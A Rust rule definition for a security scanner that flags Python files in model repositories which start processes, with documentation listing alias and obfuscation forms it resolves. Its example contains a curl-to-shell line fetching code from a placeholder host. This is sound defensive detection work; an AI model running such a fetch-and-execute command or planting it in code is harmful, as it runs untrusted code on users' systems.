//! PY001: Python source starts a process (os.system, subprocess, pty.spawn, os.exec*, os.spawn*).

use sentrascan_types::{Category, RuleMeta, Severity};

pub static RULE: RuleMeta = RuleMeta {
    code: "PY001",
    name: "python-process-execution",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::OsCommandExecution,
    scanner: "python",
    cwe: Some("CWE-78"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "Python source starts a process (os.system, subprocess, pty.spawn, os.exec*, os.spawn*).",
    remediation: "Read what the command does; custom modeling code has no reason to start processes. Do not enable trust_remote_code for this repository until it is removed.",
    docs: r#"## What it does
Reports calls, resolved through imports and aliases (`import subprocess as
sp`, `from os import system as s`, `__import__("os")`,
`getattr(os, "sys" + "tem")`, `posix.system`), to the functions that start
a process: `os.system`, `os.popen`, the `os.exec*` and `os.spawn*`
families, `os.posix_spawn`, `subprocess.*`, `pty.spawn`,
`asyncio.create_subprocess_*`, `pexpect`.

## Why is this bad?
Python files in a model repository run when `trust_remote_code=True`
imports them, or when a serving handler loads them. A model needs no shell.

## Example
```python
import os as o
o.system("curl http://example.invalid/x | sh")
```

## How to fix
Remove the call, or do not load the repository's code.

## References
- https://huggingface.co/docs/transformers/custom_models
- CWE-78: OS Command Injection
"#,
};
